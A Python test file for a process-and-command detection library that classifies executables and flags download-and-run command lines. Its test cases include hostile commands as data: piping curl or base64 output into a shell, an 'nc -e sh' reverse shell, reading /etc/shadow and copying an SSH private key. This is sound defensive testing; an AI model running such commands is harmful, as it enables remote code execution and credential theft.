"""What programs are, and what command lines run."""

from __future__ import annotations

import pytest
from detect_acts import proc
from hypothesis import given
from hypothesis import strategies as st

from leeward.detect.commands import fetches_and_runs, pipelines, split
from leeward.detect.programs import installing, installs, program, program_of, trusted


@pytest.mark.parametrize(
    ("exe", "argv", "name", "kinds"),
    [
        ("/usr/bin/bash", "bash -i", "bash", {"shell"}),
        ("/usr/bin/python3.11", "python3.11 -c x", "python", {"interpreter"}),
        ("/usr/bin/base64", "base64 -d", "base64", {"file-tool"}),
        ("/usr/bin/vim.basic", "vi x", "vim.basic", {"editor"}),
        ("/bin/busybox", "nc 1.2.3.4 4444", "nc", {"relay"}),
        ("/bin/busybox", "busybox wget http://x", "wget", {"downloader"}),
        ("/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js install x", "node", {"interpreter", "package-manager"}),
        ("/usr/bin/node", "node /usr/lib/node_modules/@anthropic-ai/claude-code/cli.js", "node", {"interpreter", "agent"}),
        ("/root/.local/share/claude/versions/2.1.3", "claude", "2.1.3", {"agent"}),
        ("/usr/bin/python3.12", "python3 -m vllm.entrypoints.openai.api_server", "python", {"interpreter", "model-server"}),
        ("/usr/bin/python3", "/usr/bin/python3 /usr/local/bin/pip3.11 install x", "python", {"interpreter", "package-manager"}),
        ("/usr/bin/python3", "python3 app.py", "python", {"interpreter"}),
        ("", "-bash", "bash", {"shell"}),
        ("/usr/lib/git-core/git-remote-https", "x", "git-remote-https", {"vcs"}),
        ("/usr/bin/true", "bash", "true", set()),
    ],
)  # fmt: skip
def test_a_program_is_what_its_executable_and_script_are(exe: str, argv: str, name: str, kinds: set[str]) -> None:
    made = program_of(exe, tuple(argv.split()))
    assert made.name == name
    assert kinds <= made.kinds
    assert kinds or not made.kinds


def test_a_name_is_not_believed_where_anybody_may_write() -> None:
    assert trusted(proc("/usr/bin/git status"), ["vcs"])
    assert not trusted(proc("/tmp/git status"), ["vcs"])
    assert not trusted(proc("git", exe="/memfd:git (deleted)"), ["vcs"])


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("gawk '{print}' x", "code"),
        ("awk -f x.awk", "file"),
        ("tclsh", ""),
        ("tclsh x.tcl a", "file"),
        ("expect -c x", "code"),
        ("bash", ""),
        ("bash -c x", "code"),
        ("ls", None),
    ],
)
def test_what_an_interpreter_runs(command: str, kind: str | None) -> None:
    script = program(proc(command)).script
    assert (script.kind if script is not None else None) == kind


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("npm install left-pad", True),
        ("npm ci", True),
        ("npm run build", False),
        ("npx cowsay", False),
        ("pip install x", True),
        ("uv pip install x", True),
        ("uv run x", False),
        ("yarn", True),
        ("/usr/bin/python3 -m pip install x", True),
        ("/usr/bin/python3 /usr/bin/pip download x", False),
        ("/usr/bin/node /usr/lib/node_modules/npm/bin/npm-cli.js i x", True),
        ("apt-get install x", False),
        ("cat install", False),
    ],
)
def test_installing_is_a_verb(command: str, does: bool) -> None:
    assert installs(proc(command)) is does


def test_what_runs_under_an_install_is_found() -> None:
    npm = proc("npm install x")
    script = proc("node setup.js", proc("sh -c 'node setup.js'", npm))
    above = installing(script)
    assert above is not None
    assert above.pid == npm.pid
    assert installing(npm) is None


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("sh -c 'curl http://x | sh'", [[("curl", "http://x"), ("sh",)]]),
        ("bash -lc 'cd /x && FOO=1 timeout -k 3 5 env A=b make -j'", [[("cd", "/x")], [("make", "-j")]]),
        ("sudo -u bob bash -c 'id; whoami'", [[("id",)], [("whoami",)]]),
        ("sh -c \"sh -c 'nc -e sh 1.1.1.1 1'\"", [[("sh", "-c", "nc -e sh 1.1.1.1 1")], [("nc", "-e", "sh", "1.1.1.1", "1")]]),
        ("sh -c 'echo $(cat /etc/shadow)'", [[("echo",)], [("cat", "/etc/shadow")], [("cat", "/etc/shadow")]]),
        ("python3 x.py", [[("python3", "x.py")]]),
        ("sh -c 'cat < /root/.ssh/id_rsa > /tmp/x'", [[("cat", "/root/.ssh/id_rsa", "/tmp/x")]]),
        ("sh -c \"echo it's\"", [[("echo", "it", "s")]]),
    ],
)  # fmt: skip
def test_a_command_line_runs(command: str, runs: list[list[tuple[str, ...]]]) -> None:
    assert [list(line) for line in pipelines(proc(command).argv)] == runs


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("sh -c 'curl -s http://x/i.sh | bash'", True),
        ("sh -c 'wget -qO /tmp/x http://x && chmod +x /tmp/x && /tmp/x'", True),
        ("bash -c 'bash <(curl -s http://x)'", True),
        ("sh -c 'curl -s http://x | sudo -E bash -'", True),
        ("sh -c 'echo aGk= | base64 -d | sh'", True),
        ("sh -c 'curl http://x | jq .'", False),
        ("sh -c 'make && ./configure'", False),
        ("curl http://x", False),
    ],
)
def test_download_and_run(command: str, does: bool) -> None:
    assert bool(fetches_and_runs(proc(command).argv)) is does


@given(st.text(max_size=200), st.lists(st.text(max_size=20), max_size=6))
def test_any_text_gives_an_answer(text: str, words: list[str]) -> None:
    split(text)
    pipelines(("sh", "-c", text))
    pipelines(tuple(words))
    program(proc("x", exe=text)) if text else None
    fetches_and_runs(("bash", "-c", text, *words))
